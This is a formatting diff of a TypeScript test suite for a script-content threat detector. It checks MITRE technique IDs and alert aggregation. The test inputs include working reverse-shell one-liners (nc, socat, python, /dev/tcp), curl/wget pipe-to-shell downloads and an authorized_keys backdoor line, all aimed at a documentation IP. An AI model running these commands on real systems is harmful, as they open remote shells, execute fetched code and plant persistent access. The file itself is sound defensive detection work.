@@ -15,10 +15,16 @@ describe('defender/suspicious-script-content', () => {
     expect(ids('0<&196;exec 196<>/dev/tcp/198.51.100.23/4444; sh <&196 >&196 2>&196')).toEqual(['reverse-shell']);
     expect(ids('nc -e /bin/sh 198.51.100.23 4444')).toEqual(['reverse-shell']);
     expect(ids('/usr/bin/ncat --sh-exec "bash -i" 198.51.100.23 443')).toEqual(['reverse-shell']);
-    expect(ids('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.23 4444 >/tmp/f')).toEqual(['reverse-shell']);
-    expect(ids("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.23:4444")).toEqual(['reverse-shell']);
+    expect(ids('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.23 4444 >/tmp/f')).toEqual([
+      'reverse-shell',
+    ]);
+    expect(ids("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.23:4444")).toEqual([
+      'reverse-shell',
+    ]);
     expect(
-      ids(`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.23",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`),
+      ids(
+        `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.23",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
+      ),
     ).toEqual(['reverse-shell']);
     expect(ids('curl -fsSL http://198.51.100.23/x.sh | sudo bash')).toEqual(['download-exec']);
     expect(ids('wget -qO- http://198.51.100.23/x | /bin/sh -s -- --quiet')).toEqual(['download-exec']);
@@ -95,9 +101,18 @@ describe('defender/suspicious-script-content', () => {
     const f = fixtures.fires.find((x) => x.name === 'fires.cleanup-and-persistence.json')!;
     const result = await runFixture(detector, f);
     const alert = result.alerts[0]!;
-    expect(alert.mitre.map((m) => m.id)).toEqual(['T1053.003', 'T1059.004', 'T1070.002', 'T1070.003', 'T1098.004', 'T1105']);
+    expect(alert.mitre.map((m) => m.id)).toEqual([
+      'T1053.003',
+      'T1059.004',
+      'T1070.002',
+      'T1070.003',
+      'T1098.004',
+      'T1105',
+    ]);
     const lines = alert.evidence.keyComponents['Matched Lines'] as readonly string[];
-    expect(lines).toContain('[SSH authorized_keys modified] echo \'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq0cmVzcGFzczpub3RhcmVhbGtleQ backup@ops\' >> /root/.ssh/authorized_keys');
+    expect(lines).toContain(
+      "[SSH authorized_keys modified] echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq0cmVzcGFzczpub3RhcmVhbGtleQ backup@ops' >> /root/.ssh/authorized_keys",
+    );
     expect(alert.key.startsWith('sha256:')).toBe(true);
   });
 
@@ -115,7 +130,9 @@ describe('defender/suspicious-script-content', () => {
         AdditionalFields: JSON.stringify({ ScriptContent: 'nc -e /bin/sh 198.51.100.23 4444' }),
       });
     const { analyzeEvents } = await import('@tripline/core');
-    const result = await analyzeEvents([row('2025-11-14T02:00:00Z', 1), row('2025-11-14T02:05:00Z', 2)], { detectors: [detector] });
+    const result = await analyzeEvents([row('2025-11-14T02:00:00Z', 1), row('2025-11-14T02:05:00Z', 2)], {
+      detectors: [detector],
+    });
     expect(result.alerts).toHaveLength(1);
     expect(result.alerts[0]!.evidence.eventCount).toBe(2);
     expect(result.alerts[0]!.severity).toBe('high');
